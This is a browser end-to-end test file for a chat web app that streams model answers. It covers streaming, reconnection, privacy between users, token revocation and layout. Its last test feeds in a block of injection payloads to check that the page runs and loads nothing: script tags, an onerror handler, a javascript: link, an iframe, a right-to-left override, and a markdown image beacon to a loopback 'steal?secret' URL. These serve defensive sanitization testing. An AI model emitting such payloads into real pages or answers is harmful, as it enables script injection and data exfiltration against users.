import { describe, expect, test } from 'vitest'
import { maxPromptCharacters } from '../../src/events/chat.ts'
import { executeCommand } from '../support/api-client.ts'
import { browserForTests, expectAccessible, type Visit } from '../support/browser.ts'
import { serveForTests } from '../support/test-scene.ts'
import { issueToken } from '../support/tokens.ts'

const scene = serveForTests()
const { visit } = browserForTests({ url: () => scene.council.url })

const words = (count: number): string[] => Array.from({ length: count }, (_, n) => ` w${n + 1}`)
const textOf = (tokens: readonly string[]): string => tokens.join('').trimStart()

async function ask(page: Visit['page'], question: string, path: 'fast' | 'full' = 'fast'): Promise<void> {
  await page.getByLabel('Path').selectOption(path)
  await page.getByLabel('Your question').fill(question)
  await page.keyboard.press('Enter')
}
const answers = (page: Visit['page']) => page.locator('.answer')
const answered = (page: Visit['page']) => page.getByRole('button', { name: 'Ask again' })

describe('the chat', () => {
  test('streams an answer with its cost, reads well in both themes, and asks no other server for anything', async () => {
    const { page, faults, strangers } = await visit()
    await page.getByRole('heading', { name: 'Ask the council' }).waitFor()
    expect(await page.getByLabel('Your question').getAttribute('maxlength')).toBe(String(maxPromptCharacters))
    await expectAccessible(page)
    scene.model.nextAnswer({ tokens: ['Paris', ' is', ' the', ' capital', '.'] })
    await ask(page, 'What is the capital of France?')
    await answered(page).waitFor()
    expect(await answers(page).textContent()).toBe('Paris is the capital.')
    expect(await page.locator('.turn .foot').textContent()).toMatch(/^\$0\.0\d+.*tokens.*first word/)
    expect(page.url()).toMatch(/\/chat\/[0-9a-f-]{36}$/)
    await expectAccessible(page)
    expect({ faults, strangers }).toEqual({ faults: [], strangers: [] })
  })

  test('shows the drafts of a deliberation side by side, and their authors’ labels only with the vote', async () => {
    const { page, faults } = await visit()
    await ask(page, 'How should we plan the harbour?', 'full')
    await expect.poll(() => page.locator('.draft').count(), { timeout: 10_000 }).toBe(3)
    await answered(page).waitFor()
    expect(await page.locator('.steps li').allTextContents()).toHaveLength(4)
    expect(await page.locator('.draft h3').allTextContents()).toContainEqual(
      expect.stringMatching(/^[ABC] · \w+elected$/),
    )
    await page.getByRole('table', { name: 'Ballots' }).waitFor()
    await expectAccessible(page)
    expect(faults).toEqual([])
  })

  test('continues an answer after a reload in its middle, without a gap', async () => {
    const { page } = await visit()
    const tokens = words(60)
    scene.model.nextAnswer({ tokens, tokensPerSecond: 30 })
    await ask(page, 'Count to sixty.')
    await page.getByText('w10', { exact: false }).waitFor()
    await page.reload()
    await page.getByText('w20', { exact: false }).waitFor()
    await answered(page).waitFor()
    expect(await answers(page).textContent()).toBe(textOf(tokens))
  })

  test('continues an answer after the connection was cut in its middle, without a gap', async () => {
    const { page, cut } = await visit()
    const tokens = words(60)
    scene.model.nextAnswer({ tokens, tokensPerSecond: 30 })
    await ask(page, 'Count to sixty once more.')
    await page.getByText('w10', { exact: false }).waitFor()
    await cut()
    await page.getByText('connection lost', { exact: false }).waitFor()
    await answered(page).waitFor()
    expect(await answers(page).textContent()).toBe(textOf(tokens))
    expect(await page.getByText('connected', { exact: true }).count()).toBe(1)
  })

  test('keeps an answer running while another conversation is shown', async () => {
    const { page } = await visit()
    const tokens = words(40)
    scene.model.nextAnswer({ tokens, tokensPerSecond: 30 })
    await ask(page, 'Count to forty.')
    await page.getByText('w5', { exact: false }).waitFor()
    const address = page.url()
    await page.getByRole('link', { name: 'New conversation' }).click()
    await page.getByRole('heading', { name: 'Ask the council' }).waitFor()
    await page.goBack()
    expect(page.url()).toBe(address)
    await answered(page).waitFor()
    expect(await answers(page).textContent()).toBe(textOf(tokens))
  })

  test('stops an answer, keeps its text, and lists the conversation after a reload', async () => {
    const { page } = await visit()
    scene.model.nextAnswer({ tokens: words(600), tokensPerSecond: 30 })
    await ask(page, 'Count without end.')
    await page.getByText('w5', { exact: false }).waitFor()
    await page.getByRole('button', { name: 'Stop' }).press('Enter')
    await page.getByText('You stopped this answer.').waitFor()
    await page.reload()
    await page.getByText('You stopped this answer.').waitFor()
    expect(await answers(page).textContent()).toMatch(/^ ?w1 w2 w3/)
    expect(await page.getByRole('navigation', { name: 'Conversations' }).textContent()).toContain('Count without end.')
  })

  test('shows each person only their own conversations', async () => {
    const [ada, bob] = await Promise.all(
      ['user:ada', 'user:bob'].map((subject) =>
        issueToken(scene.council, { subject, scopes: ['chat:send', 'chat:read'] }),
      ),
    )
    const { page } = await visit('/', { token: ada!.token })
    await page.getByLabel('Your question').fill('Is this private?')
    await page.keyboard.press('Enter')
    await page.getByRole('button', { name: 'Ask again' }).waitFor()
    const address = new URL(page.url()).pathname
    const { page: other } = await visit(address, { token: bob!.token })
    await other.getByText('Your conversations will be listed here.').waitFor()
    expect(await other.getByText('Is this private?').count()).toBe(0)
    expect(await other.locator('.turn').count()).toBe(0)
  })

  test('is whole for a token that may only chat: no part of the page complains', async () => {
    const { token } = await issueToken(scene.council, { subject: 'user:cleo', scopes: ['chat:send', 'chat:read'] })
    const { page } = await visit('/', { token })
    await page.getByText('supervised').waitFor()
    expect(await page.getByRole('status').textContent()).toBe('connected')
  })

  test('goes to the sign-in page when its token is revoked in the middle of an answer', async () => {
    const { token, tokenId } = await issueToken(scene.council, {
      subject: 'user:dan',
      scopes: ['chat:send', 'chat:read'],
    })
    const { page } = await visit('/', { token })
    scene.model.nextAnswer({ tokens: words(300), tokensPerSecond: 30 })
    await ask(page, 'Count until I am gone.')
    await page.getByText('w5', { exact: false }).waitFor()
    await executeCommand(scene.council, 'RevokeToken', { tokenId, reason: 'a test' })
    await page.getByLabel('Token').waitFor()
    expect(new URL(page.url()).pathname).toBe('/login')
  })

  test('fits a phone: nothing is wider than the screen', async () => {
    const { page } = await visit('/', { viewport: { width: 360, height: 740 } })
    await ask(page, `A word of many letters: ${'x'.repeat(400)}`)
    await answered(page).waitFor()
    expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360)
    await expectAccessible(page)
  })
})

describe('a hostile answer', () => {
  const hostile = [
    '<script>window.broken = 1</script>',
    '<img src=x onerror="window.broken = 2">',
    '![beacon](http://127.0.0.1:9/steal?secret=1)',
    '[click](javascript:window.broken=3)',
    '<iframe src="http://127.0.0.1:9/"></iframe>',
    '\u202Eright to left\u202C مرحبا',
    `| ${'wide | '.repeat(60)}\n|${'---|'.repeat(60)}\n${`| ${'cell | '.repeat(60)}\n`.repeat(40)}`,
    `\n\n${'a long line of text '.repeat(5_000)}`,
  ].join('\n\n')

  test('runs nothing, loads nothing, and stays within its place', async () => {
    const { page, faults, strangers } = await visit('/', { viewport: { width: 900, height: 700 } })
    scene.model.nextAnswer({ tokens: hostile.match(/[^]{1,4000}/g) ?? [] })
    await ask(page, 'Be hostile.')
    await answered(page).waitFor()
    expect(await page.evaluate<boolean>('"broken" in window')).toBe(false)
    expect(await page.locator('.answer').locator('img, script, iframe, a[href^="javascript"]').count()).toBe(0)
    expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(900)
    await page.getByText('<script>window.broken = 1</script>').waitFor()
    await page.getByText('[image: beacon, http://127.0.0.1:9/steal?secret=1]').waitFor()
    expect({ faults, strangers }).toEqual({ faults: [], strangers: [] })
  })
})
